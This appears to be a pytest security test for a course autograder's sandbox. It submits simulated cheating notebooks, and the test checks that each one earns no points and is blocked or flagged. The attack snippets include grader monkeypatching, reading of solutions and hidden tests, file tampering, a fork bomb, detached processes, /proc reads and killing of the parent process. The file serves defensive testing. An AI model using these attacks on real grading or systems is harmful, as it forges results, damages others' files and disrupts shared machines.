"""Attacks on the grading, as a student who wants points without the work would try them.

Each attacker hands in the blank released A1 notebook (worth 0 points) with an attack at the
top of its first answer cell, so that any point it earns is a forged one. Two honest students
hand in the solution. Everything is graded by ``python -m course autograde --jobs 2``
(nbgrader's real command line and gradebook) in a scratch course, and then:

* every attacker scores 0 and is flagged "needs review" where its answer cell reaches for the
  grader's side;
* the honest students score full marks and their submitted files are unchanged;
* the ``course`` package, the hidden tests and the solutions are unchanged;
* no process an attacker started is alive, and nothing reached the network listener;
* what the attacks saw from inside their graded cells (printed into the graded notebook) shows
  that the sandbox blocked them.

=================  ==========================================================================
attack             what the answer cell does
=================  ==========================================================================
patch_checks       replaces every check of ``course.grading.a1``, ``Question.result``, numpy's
                   comparisons and ``course.check.compare`` with functions that say "full marks"
display_off        ``get_ipython().ast_node_interactivity = "none"`` (nbgrader gives full
                   credit to a test cell without output)
display_hijack     a ``text/plain`` formatter that prints every float as the cell's points, and
                   a replaced ``sys.displayhook``
read_sources       looks for the solutions, hidden tests and gradebook by relative and absolute
                   path, and defines its answers from the solution notebook if it finds one
write_files        writes into the course package, the gradebook, the hidden tests and another
                   student's submitted notebook
network            connects to a TCP listener of the test on 127.0.0.1 and to a public address
fork_bomb          a child process that forks without end
background         a detached process (new session) meant to outlive the kernel
course_folder      hands in a ``course/`` package and ``sitecustomize.py`` next to the notebook
zygote             reads the memory and environment of the process its kernel was forked from
                   (the slot's zygote, ``course.autograde.slots``), then kills it
=================  ==========================================================================
"""
from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from course.autograde.report import status_table
from course.autograde import sandbox
from course.paths import ROOT

sys.path.insert(0, str(ROOT / "bench"))
import gradingkit  # noqa: E402

A1 = "A1_backprop"
MARKER = f"course-attack-{uuid.uuid4().hex[:8]}"

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("nbgrader"),   # one worker grades, the other goes on
              pytest.mark.skipif(sandbox.available() is not None and not os.environ.get("CI"),
                                 reason=f"no sandbox here: {sandbox.available()}")]


def attacks(course: Path, port: int) -> dict[str, str]:
    """The attack code of each attacker (prefixed to the first answer cell)."""
    solution = course / "solutions" / A1 / f"{A1}.ipynb"
    return {
        "patch_checks": """
import numpy as np
import course.check, course.grading, course.grading.core as core
for _name in course.grading.a1.__all__:
    setattr(course.grading.a1, _name, lambda *a, **k: 99.0)
core.Question.result = lambda self: self.points
core.Question.earned = lambda self: self.points
course.check.compare = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
""",
        "display_off": """
get_ipython().ast_node_interactivity = "none"
""",
        "display_hijack": """
import sys
_ip = get_ipython()
_ip.display_formatter.formatters["text/plain"].for_type(float, lambda o, p, cycle: p.text("20.0"))
sys.displayhook = lambda value: print("20.0")
""",
        "read_sources": f"""
import glob, json, os
seen = {{}}
for _path in [{str(solution)!r}, "../../solutions/{A1}/{A1}.ipynb", "../solutions", "../../hidden_tests/a1.py",
              {str(course / 'hidden_tests' / 'a1.py')!r}, {str(course / 'gradebook.db')!r}, {str(ROOT / 'solutions')!r}]:
    seen[_path] = os.path.exists(_path)
seen["glob"] = glob.glob("/**/hidden_tests/*.py", recursive=False) + glob.glob("../../*")
print("ATTACK read_sources saw:", json.dumps(seen))
if os.path.exists({str(solution)!r}):
    for _cell in json.load(open({str(solution)!r}))["cells"]:
        if _cell["cell_type"] == "code" and "solution" in json.dumps(_cell["metadata"]):
            exec("".join(_cell["source"]))
""",
        "write_files": f"""
import os
results = {{}}
for _path in [{str(ROOT / 'course' / '__init__.py')!r}, {str(course / 'gradebook.db')!r},
              {str(course / 'hidden_tests' / 'a1.py')!r}, {str(course / 'submitted' / 'victim' / A1 / (A1 + '.ipynb'))!r},
              "../victim/{A1}/{A1}.ipynb", "/tmp/../{MARKER}"]:
    try:
        with open(_path, "a") as _f:
            _f.write("# pwned")
        results[_path] = "WROTE"
    except OSError as _err:
        results[_path] = type(_err).__name__
print("ATTACK write_files:", results)
""",
        "network": f"""
import socket
for _addr in [("127.0.0.1", {port}), ("8.8.8.8", 53)]:
    try:
        socket.create_connection(_addr, timeout=3).sendall(b"{MARKER}")
        print("ATTACK network: CONNECTED", _addr)
    except OSError as _err:
        print("ATTACK network: blocked", _addr, type(_err).__name__, _err)
""",
        "fork_bomb": """
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
time.sleep(3)
""",
        "background": f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # {MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("ATTACK background: started")
""",
        "course_folder": "",
        "zygote": """
import os, signal, sys, time
for _name in ("environ", "mem"):
    try:
        open(f"/proc/{os.getppid()}/{_name}", "rb").read(16)
        print("ATTACK zygote: READ", _name)
    except OSError as _err:
        print("ATTACK zygote: blocked", _name, type(_err).__name__)
sys.stdout.flush()   # the kill below ends this kernel with its sandbox: let the evidence out first
time.sleep(1)
os.kill(os.getppid(), signal.SIGKILL)
""",
    }


SUBMITTED_COURSE = {
    "course/__init__.py": "import builtins\nbuiltins.FORGED = True\n",
    "course/grading/__init__.py": "def __getattr__(name):\n    return lambda *a, **k: 99.0\n",
    "sitecustomize.py": "import builtins\nbuiltins.FORGED = True\n",
}


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
        h.update(str(path.relative_to(folder)).encode())
        h.update(path.read_bytes())
    return h.hexdigest()


class Listener:
    """A TCP server on 127.0.0.1 that records whatever connects (nothing should)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self._stop = True
        self._thread.join(2)
        self.sock.close()


def _prefixed(nb, code: str):
    nb = nbformat.reads(nbformat.writes(nb), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = code.strip() + "\n\n" + cell.source
            break
    return nb


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, kernel_env):
    base = tmp_path_factory.mktemp("attacks")
    course = gradingkit.scratch_course(base / "course", [A1], ROOT, gradebook=False)
    good = gradingkit.answered(A1, course)
    blank = nbformat.read(course / "assignments" / A1 / f"{A1}.ipynb", as_version=4)
    listener = Listener()
    code = attacks(course, listener.port)
    for student in ("honest", "victim"):
        gradingkit.submit(A1, student, good, course)
    for name, attack in code.items():
        gradingkit.submit(A1, name, _prefixed(blank, attack) if attack else blank, course)
    for rel, text in SUBMITTED_COURSE.items():
        path = course / "submitted" / "course_folder" / A1 / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    protected = {"package": ROOT / "course", "hidden_tests": course / "hidden_tests",
                 "solutions": course / "solutions", "victim": course / "submitted" / "victim"}
    before = {k: _tree_digest(v) for k, v in protected.items()}
    env = {**os.environ, **kernel_env}
    proc = subprocess.run([sys.executable, "-m", "course", "autograde", "--root", str(course), A1,
                           "--jobs", "2", "--timeout", "30"], env=env, capture_output=True, text=True, timeout=1200)
    listener.close()
    after = {k: _tree_digest(v) for k, v in protected.items()}
    status = {r["student"]: r for r in status_table(A1, list(code) + ["honest", "victim"], course)
              .to_dict("records")}
    graded = {}
    for student in status:
        path = course / "autograded" / student / A1 / f"{A1}.ipynb"
        graded[student] = nbformat.read(path, as_version=4) if path.exists() else None
    return {"proc": proc, "status": status, "before": before, "after": after, "graded": graded,
            "connections": listener.connections, "course": course}


def _printed(nb) -> str:
    return "\n".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
                     if o.get("output_type") == "stream")


def test_grading_ran(attacked):
    assert attacked["proc"].returncode == 0, attacked["proc"].stdout[-3000:] + attacked["proc"].stderr[-3000:]


@pytest.mark.parametrize("attack", list(attacks(Path("/x"), 1)))
def test_attack_forges_no_point(attacked, attack):
    row = attacked["status"][attack]
    assert row["score"] == 0.0, row
    assert row["sandbox"] == "bwrap", row


@pytest.mark.parametrize("attack", ["patch_checks", "display_off", "display_hijack", "read_sources",
                                    "network", "background", "fork_bomb", "zygote"])
def test_attack_is_flagged_for_review(attacked, attack):
    row = attacked["status"][attack]
    assert row["status"] == "needs review" and row["review"], row


def test_honest_students_keep_full_marks_and_their_files(attacked):
    for student in ("honest", "victim"):
        assert attacked["status"][student]["score"] == 20.0, attacked["status"][student]
        # "needs manual grade": the written answers of the solution wait for the formgrader
        assert attacked["status"][student]["status"] == "needs manual grade", attacked["status"][student]
    assert attacked["before"] == attacked["after"], "a protected tree changed during grading"


def test_sandbox_blocked_reading_writing_and_the_network(attacked):
    read = _printed(attacked["graded"]["read_sources"])
    seen = json.loads(read.split("ATTACK read_sources saw:", 1)[1].splitlines()[0])
    assert not any(v for k, v in seen.items() if k != "glob"), seen
    # next to its own job folder, at most the folders above the read-only environment (when the
    # course lives under /tmp, as a CI clone may): never the course's other folders
    allowed = {Path(p).parts[2] for p in sandbox.readonly_paths() if p.startswith("/tmp/")}
    assert all(Path(g).name.startswith("course-job-") or Path(g).name in allowed for g in seen["glob"]), seen
    wrote = _printed(attacked["graded"]["write_files"])
    assert "ATTACK write_files:" in wrote and "WROTE" not in wrote.replace("/tmp/../", ""), wrote
    net = _printed(attacked["graded"]["network"])
    assert net.count("ATTACK network: blocked") == 2 and "CONNECTED" not in net, net
    assert attacked["connections"] == 0


def test_a_kernel_cannot_read_its_zygote_and_killing_it_costs_no_one_points(attacked):
    """Killing the zygote ends its slot's sandbox: the attacker's kernel is restarted the ordinary
    way, and the slot gets a new zygote before its next submission (the honest students' full
    marks are checked above)."""
    seen = _printed(attacked["graded"]["zygote"])
    assert "ATTACK zygote: blocked environ" in seen and "READ" not in seen, seen


def test_no_process_outlives_its_job(attacked):
    import psutil

    left = []
    for proc in psutil.process_iter(["cmdline"]):
        try:
            if MARKER in " ".join(proc.info["cmdline"] or []):
                left.append(proc.pid)
        except psutil.Error:
            continue
    assert left == []
    assert "ATTACK background: started" in _printed(attacked["graded"]["background"])
